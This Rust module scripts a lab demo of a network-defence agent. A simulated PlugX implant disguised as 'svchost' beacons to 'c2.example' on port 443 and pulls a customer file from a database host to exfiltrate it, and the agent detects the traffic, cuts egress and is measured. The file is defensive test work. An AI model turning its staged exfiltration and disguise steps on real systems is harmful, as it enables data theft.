//! The story of the demo (after the JTB incident of 2016): a quiet server, an implant's handshake, a theft, a cut.
//!
//! In comes nothing; out come a timeline as it happens and a [`Table`]. The story must not decide
//! anything itself: it plays both sides and reads what agent, collector and wire say.

mod table;

pub use table::{Line, Table};

use crate::lab::agent::{Agent, AgentSetup, PolicyText};
use crate::lab::collector::Collector;
use crate::lab::node::Actor;
use crate::lab::pcapfile::{Segment, segments};
use crate::lab::probe::{Counter, Probe, Through, disguise};
use crate::lab::topology::{BACKUP, C2, DB, MANY_C2, MIRROR, Network, RESOLVER, WEB};
use crate::lab::wait::{wait_for, wait_until};
use sekisho_schema::{Finding, Receipt, Timestamp};
use serde_json::{Value, json};
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// Size of the file of customers that the intruder is after.
const STOLEN_FILE: usize = 2_000_000;
/// How long the server is watched before anything happens.
const QUIET: Duration = Duration::from_millis(1500);

/// Everything that is on stage.
#[derive(Debug)]
pub struct Story {
    began: Instant,
    to_stderr: bool,
    c2_tap: Actor,
    web_tap: Actor,
    c2: Actor,
    legitimate: Vec<(&'static str, Actor)>,
    _servers: Vec<Actor>,
    escape: (Probe, Through, Counter),
    agent: Agent,
    collector: Collector,
    network: Network,
}

impl Story {
    /// Builds the laboratory, starts collector and agent, and lets business begin.
    ///
    /// With `to_stderr` the timeline goes there, and stdout stays free for the table.
    #[must_use]
    pub fn set_up(to_stderr: bool) -> Self {
        let began = Instant::now();
        let tell = |text: &str| say(began, to_stderr, text);
        let network = Network::build();
        tell(
            "laboratory: web-1 and db-1 behind gw; outside: c2, mirror, backup, customers; a collector inside",
        );
        let mut collector = Collector::init(&network);
        collector.start();
        tell(&format!("collector up; its page: {}", collector.page_url()));
        let setup = AgentSetup::new(&network.web, network.lab.dir(), "agent");
        collector.enrol(&setup);
        let agent = setup.start();
        tell(
            "agent on web-1 enrolled with a one-time token and the pin of the collector's authority",
        );
        let sealed = collector.seal(&PolicyText::new(1, "enforce"));
        let pushed = collector.push(&sealed);
        assert!(
            pushed.status.success(),
            "the policy was not pushed: {}",
            String::from_utf8_lossy(&pushed.stderr)
        );
        wait_for("web-1 to enforce the pushed policy", Duration::from_secs(15), || {
            (agent.status()["mode"]["effective"] == "enforce").then_some(())
        });
        tell(
            "policy 1 sealed offline, pushed, held: web-1 is in enforce; exempt: updates, backup, customers on tcp/80, the collector",
        );
        let (servers, legitimate) = business(&network);
        let c2 =
            network.c2.actor(&["plugx-c2", "--settings", "443=T1", "--theft-after-ms", "1000"]);
        let tap = |node: &crate::Node, name: &str| {
            node.actor(&[
                "capture",
                "--dev",
                "eth0",
                "--out",
                &network.lab.dir().join(name).display().to_string(),
            ])
        };
        let (c2_tap, web_tap) = (tap(&network.c2, "c2.pcap"), tap(&network.web, "web.pcap"));
        let mut counter = Counter::on(&network.c2, "eth0");
        let mut probe = Probe::new(
            "another way out",
            &network.web,
            "udp",
            &["--dst", &format!("{MANY_C2}.0.99")],
        );
        let through = probe.control(&mut counter);
        tell("control: a probe of ours from web-1 to the outside gets through");
        Self {
            began,
            to_stderr,
            c2_tap,
            web_tap,
            c2,
            legitimate,
            _servers: servers,
            escape: (probe, through, counter),
            agent,
            collector,
            network,
        }
    }

    fn tell(&self, text: &str) {
        say(self.began, self.to_stderr, text);
    }

    /// Plays the incident and measures it.
    pub fn play(&mut self) -> Table {
        std::thread::sleep(QUIET);
        self.tell("quiet: customers browse web-1, web-1 fetches updates and sends backups");
        self.tell(
            "intruder: an implant wakes on web-1, asks for c2.example and knocks at port 443",
        );
        let mut implant = self.implant();
        let finding = wait_until(Duration::from_secs(10), || {
            self.agent.findings("plugx.tcp").into_iter().next()
        });
        if let Some(finding) = &finding {
            self.tell(&format!(
                "web-1: {} ({:?}): {}",
                finding.detector, finding.grade, finding.explanation
            ));
        }
        let receipt = finding.as_ref().and_then(|finding| self.receipt_of(finding));
        if let Some(receipt) = &receipt {
            self.tell(&format!(
                "web-1: external egress cut; time to contain {}; cut {}, exemptions {}",
                receipt
                    .time_to_contain_ns
                    .map_or("unknown".to_owned(), |ns| format!("{:.3} ms", ns as f64 / 1e6)),
                receipt.proof.cut.as_deref().unwrap_or("unproven"),
                receipt.proof.exemptions.as_deref().unwrap_or("unknown"),
            ));
        }
        let deeds = self.theft(&mut implant);
        let (probe, through, counter) = &mut self.escape;
        let leaked = probe.leaked(counter, through);
        self.tell(&format!("control: the same probe again: {leaked} frames arrive"));
        drop(implant);
        self.measure(finding.as_ref(), receipt.as_ref(), &deeds, leaked)
    }

    fn implant(&self) -> Actor {
        let program = disguise(self.network.lab.dir(), "svchost");
        self.network.web.actor_as(
            &program,
            &[
                "plugx-client",
                "--to",
                &format!("{C2}:443"),
                "--resolver",
                RESOLVER,
                "--name",
                "c2.example",
                "--setting",
                "T1",
                "--keep-alive-ms",
                "300",
                "--steal-after-ms",
                "1200",
                "--pull",
                &format!("{DB}:80/file"),
                "--stubborn",
                "yes",
            ],
        )
    }

    fn receipt_of(&self, finding: &Finding) -> Option<Receipt> {
        wait_until(Duration::from_secs(5), || {
            let receipts = self.agent.receipts();
            // The proof is added to the receipt when it has been tried.
            receipts.into_iter().rfind(|receipt| {
                receipt.finding.as_ref() == Some(&finding.id) && receipt.proof.cut.is_some()
            })
        })
    }

    /// Lets the implant collect the file and try to send it.
    fn theft(&self, implant: &mut Actor) -> Value {
        wait_until(Duration::from_secs(15), || {
            let deeds = implant.ask("report");
            (deeds["loot_bytes"].as_u64() >= Some(STOLEN_FILE as u64)
                && (deeds["attempts_after_loss"].as_u64() >= Some(3) || deeds["finished"] == true))
                .then_some(())
        });
        let deeds = implant.ask("report");
        self.tell(&format!(
            "intruder: {} bytes of customers pulled from db-1; {} attempts to reach the C2 again, last: {}",
            deeds["loot_bytes"], deeds["attempts_after_loss"], deeds["last_error"]
        ));
        deeds
    }

    fn measure(
        &mut self,
        finding: Option<&Finding>,
        receipt: Option<&Receipt>,
        deeds: &Value,
        leaked: u64,
    ) -> Table {
        self.web_tap.ask("stop");
        self.c2_tap.ask("stop");
        let wire = Wire::read(
            self.network.lab.dir().join("web.pcap"),
            self.network.lab.dir().join("c2.pcap"),
        );
        let loot = self.c2.ask("report");
        let business: Vec<(&str, Value)> =
            self.legitimate.iter_mut().map(|(name, actor)| (*name, actor.ask("report"))).collect();
        let at_collector = |kind: &str, id: Option<&String>| {
            id.is_some_and(|id| {
                wait_until(Duration::from_secs(10), || {
                    self.collector
                        .events()
                        .iter()
                        .any(|event| {
                            event["type"] == kind && event.to_string().contains(id.as_str())
                        })
                        .then_some(())
                })
                .is_some()
            })
        };
        let finding_there = at_collector("finding", finding.map(|finding| &finding.id));
        let receipt_there = at_collector("receipt", receipt.map(|receipt| &receipt.containment.0));
        self.tell(&format!(
            "collector: finding {}, receipt {}",
            there(finding_there),
            there(receipt_there)
        ));
        let page = self
            .collector
            .get("/")
            .is_ok_and(|(status, body)| status == 200 && body.contains("web-1"));
        let told = Told {
            finding,
            receipt,
            deeds,
            loot: &loot,
            business: &business,
            wire: &wire,
            leaked,
            finding_there,
            receipt_there,
            page,
        };
        Table { facts: told.facts(), lines: told.lines(), page_url: self.collector.page_url() }
    }
}

fn there(is: bool) -> &'static str {
    if is { "stored" } else { "MISSING" }
}

fn say(began: Instant, to_stderr: bool, text: &str) {
    let line = format!("{:>8.3} s  {text}", began.elapsed().as_secs_f64());
    if to_stderr { eprintln!("{line}") } else { println!("{line}") }
}

/// Servers and legitimate traffic.
fn business(network: &Network) -> (Vec<Actor>, Vec<(&'static str, Actor)>) {
    let file = network.lab.dir().join("customers.csv");
    std::fs::write(&file, crate::actors::customers_file(STOLEN_FILE))
        .expect("the file of customers");
    let servers = vec![
        network.web.actor(&["http-serve", "--port", "80"]),
        network.mirror.actor(&["http-serve", "--port", "80"]),
        network.backup.actor(&["http-serve", "--port", "8200"]),
        network.db.actor(&["http-serve", "--port", "80", "--file", &file.display().to_string()]),
        network.gw.actor(&[
            "dns-serve",
            "--table",
            &format!("c2.example={C2},mirror.example={MIRROR},backup.example={BACKUP}"),
        ]),
    ];
    let legitimate = vec![
        ("customers", network.customers.actor(&["browse", "--to", &format!("{WEB}:80")])),
        ("updates", network.web.actor(&["updates", "--to", &format!("{MIRROR}:80")])),
        ("backup", network.web.actor(&["backup", "--to", &format!("{BACKUP}:8200")])),
    ];
    (servers, legitimate)
}

/// What the wire says, apart from the agent.
struct Wire {
    /// First packet from the server to the intruder.
    first: Option<Timestamp>,
    /// First packet with payload of that flow.
    first_data: Option<Segment>,
    /// Last packet of the server that arrived at the intruder.
    last: Option<Timestamp>,
}

impl Wire {
    fn read(web: PathBuf, c2: PathBuf) -> Self {
        let malicious = |segment: &Segment| segment.to.to_string() == format!("{C2}:443");
        let sent: Vec<Segment> = segments(&web).into_iter().filter(malicious).collect();
        let arrived: Vec<Segment> = segments(&c2).into_iter().filter(malicious).collect();
        let at =
            |segment: Option<&Segment>| segment.map(|segment| Timestamp::from_nanos(segment.at_ns));
        Self {
            first: at(sent.first()),
            first_data: sent.iter().find(|segment| segment.payload > 0).copied(),
            last: at(arrived.last()),
        }
    }
}

/// Everything that was told, before it is put in lines.
struct Told<'a> {
    finding: Option<&'a Finding>,
    receipt: Option<&'a Receipt>,
    deeds: &'a Value,
    loot: &'a Value,
    business: &'a [(&'a str, Value)],
    wire: &'a Wire,
    leaked: u64,
    finding_there: bool,
    receipt_there: bool,
    page: bool,
}

impl Told<'_> {
    fn visits(&self, what: &str) -> u64 {
        self.business.iter().map(|(_, report)| report[what].as_u64().unwrap_or(0)).sum()
    }

    fn time_to_contain_ms(&self) -> Option<f64> {
        self.receipt.and_then(|receipt| receipt.time_to_contain_ns).map(|ns| ns as f64 / 1e6)
    }

    /// Whether the match came with the first packet of the flow that carried payload.
    fn on_first_data(&self) -> bool {
        let matched = self.finding.map(|finding| finding.matched_at);
        // The agent's capture and ours stamp the same frame at the same moment; a microsecond is their resolution.
        matched
            .zip(self.wire.first_data)
            .is_some_and(|(at, data)| (at.nanos() - data.at_ns).abs() <= 1_000)
    }

    fn cut_proven(&self) -> bool {
        self.leaked == 0
            && self.receipt.is_some_and(|receipt| {
                receipt.applied && receipt.proof.cut.as_deref() == Some("proven")
            })
    }

    fn exemptions(&self) -> Option<&str> {
        self.receipt.and_then(|receipt| receipt.proof.exemptions.as_deref())
    }

    fn facts(&self) -> Value {
        json!({
            "detector": self.finding.map(|finding| &finding.detector),
            "finding_frame": self.finding.map(|finding| finding.frame),
            "on_first_data_packet": self.on_first_data(),
            "first_malicious_packet_at": self.wire.first,
            "matched_at": self.finding.map(|finding| finding.matched_at),
            "committed_at": self.receipt.and_then(|receipt| receipt.committed_at),
            "last_malicious_packet_out_at": self.wire.last,
            "time_to_contain_ms": self.time_to_contain_ms(),
            "stolen_bytes_at_c2": self.loot["stolen_bytes"],
            "stolen_file_bytes": STOLEN_FILE,
            "legitimate_connections": self.visits("done"),
            "legitimate_lost": self.visits("lost"),
            "cut_proven": self.cut_proven(),
            "exemptions": self.exemptions(),
            "finding_at_collector": self.finding_there,
            "receipt_at_collector": self.receipt_there,
            "page_reachable": self.page,
        })
    }

    /// Milliseconds from the first malicious packet, for people.
    fn after(&self, at: Option<Timestamp>) -> String {
        match (at, self.wire.first) {
            (Some(at), Some(first)) => {
                format!("{at}  (+{:.3} ms)", at.since(first).nanos() as f64 / 1e6)
            }
            _ => "never".to_owned(),
        }
    }

    fn lines(&self) -> Vec<Line> {
        let line = |name, value: String, holds| Line { name, value, holds };
        let matched = self.finding.map(|finding| finding.matched_at);
        let stolen = self.loot["stolen_bytes"].as_u64();
        let each_busy = self.business.iter().all(|(_, report)| report["done"].as_u64() > Some(0));
        let committed = self.receipt.and_then(|receipt| receipt.committed_at);
        vec![
            line(
                "detector",
                self.finding.map_or("nothing was found".to_owned(), |finding| {
                    format!(
                        "{}, frame {}, the first data packet of the flow",
                        finding.detector, finding.frame
                    )
                }),
                self.on_first_data(),
            ),
            line("first malicious packet", self.after(self.wire.first), self.wire.first.is_some()),
            line("match", self.after(matched), matched.is_some()),
            line("commit", self.after(committed), committed.is_some()),
            line("last malicious packet out", self.after(self.wire.last), self.wire.last.is_some()),
            line(
                "time to contain",
                self.time_to_contain_ms().map_or("unknown".to_owned(), |ms| format!("{ms:.3} ms")),
                self.time_to_contain_ms().is_some_and(|ms| ms > 0.0),
            ),
            line(
                "bytes of theft that left",
                format!(
                    "{} of {} that the intruder had collected",
                    self.loot["stolen_bytes"], self.deeds["loot_bytes"]
                ),
                stolen == Some(0) && self.deeds["loot_bytes"].as_u64() == Some(STOLEN_FILE as u64),
            ),
            line(
                "legitimate connections lost",
                format!("{} of {}", self.visits("lost"), self.visits("done")),
                self.visits("lost") == 0 && each_busy,
            ),
            line(
                "proof of the cut",
                format!(
                    "{}; {} frames of our own probe arrived",
                    if self.cut_proven() { "proven" } else { "unproven" },
                    self.leaked
                ),
                self.cut_proven(),
            ),
            line(
                "exemptions",
                self.exemptions().unwrap_or("unknown").to_owned(),
                self.exemptions() == Some("ok"),
            ),
            line(
                "finding at the collector",
                there(self.finding_there).to_owned(),
                self.finding_there,
            ),
            line(
                "receipt at the collector",
                there(self.receipt_there).to_owned(),
                self.receipt_there,
            ),
            line(
                "page",
                if self.page { "reachable" } else { "NOT reachable" }.to_owned(),
                self.page,
            ),
        ]
    }
}
